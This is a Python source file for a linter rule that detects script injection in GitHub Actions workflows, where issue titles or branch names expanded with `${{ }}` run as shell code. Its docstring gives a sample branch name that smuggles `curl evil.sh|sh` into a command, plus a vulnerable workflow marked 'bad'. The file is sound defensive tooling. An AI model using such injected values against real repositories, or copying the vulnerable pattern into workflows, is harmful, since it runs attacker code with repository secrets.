"""Text that a stranger writes becomes a part of a program.

`${{ }}` is replaced before the shell starts, so the title of an issue or the name of a branch is read as code: the
branch `a";curl evil.sh|sh;"` runs a command of its author. In `pull_request_target`, `issues` or `issue_comment` that
command has the secrets and the token of the repository. Give the value to the step in `env` and read the variable in
double quotes: a shell never reads the text of a variable as code. The same holds for `script` of
actions/github-script and other inputs that are programs; there read `process.env.TITLE`.

Reported are values that anybody may write who opens an issue, comments or pushes to a fork, where the step can run for
him. A variable that is read as `${{ env.TITLE }}` is no better than the value itself.

```yaml bad
on: issues
jobs:
  greet:
    runs-on: ubuntu-latest
    steps:
      - run: echo "New issue ${{ github.event.issue.title }}"  # <-
```

```yaml good
on: issues
jobs:
  greet:
    runs-on: ubuntu-latest
    steps:
      - run: echo "New issue $TITLE"
        env:
          TITLE: ${{ github.event.issue.title }}
```
"""

from pipegen.finding import ERROR
from pipegen.verify.expansions import expansions
from pipegen.verify.lifting import lifting, read_again
from pipegen.workflow.problem import Problem

TYPE_CHECKING = False
if TYPE_CHECKING:
    from collections.abc import Iterator

    from pipegen.semantics.facts import Facts
    from pipegen.verify.expansions import Expansion

SEVERITY = ERROR
GROUP = "security"
WHEN = ("${{",)


def check(facts: "Facts") -> "Iterator[Problem]":
    """Report each expression in a program that may give a stranger's text; the first of a script has the fix."""
    if "github." not in facts.text and facts.text:
        return
    strange = [each for each in expansions(facts) if each.strange]
    fixed: set[int] = set()
    for each in strange:
        slot = each.embedded.slot
        step = each.step
        first = each.key == "run" and id(step.node) not in fixed
        fixed.add(id(step.node))
        scripted = [other for other in strange if other.step.node is step.node and other.key == "run"]
        yield Problem(
            "script-injection",
            f"`{each.strange}` is text that a stranger can write, and it becomes a part of `{each.key}`",
            slot.scalar,
            slot.route,
            advice=_advice(facts, each),
            offset=each.embedded.offset,
            fix=lifting(facts, scripted) if first else None,
        )


def _advice(facts: "Facts", each: "Expansion") -> str:
    if each.key != "run":
        return "set a variable in `env` of the step and read it in the program"
    reader = read_again(facts, each)
    if reader:
        return f"hand the value over as data: the text is read again by `{reader}`, so a variable alone is no help"
    return "set a variable in `env` of the step and read it in double quotes"
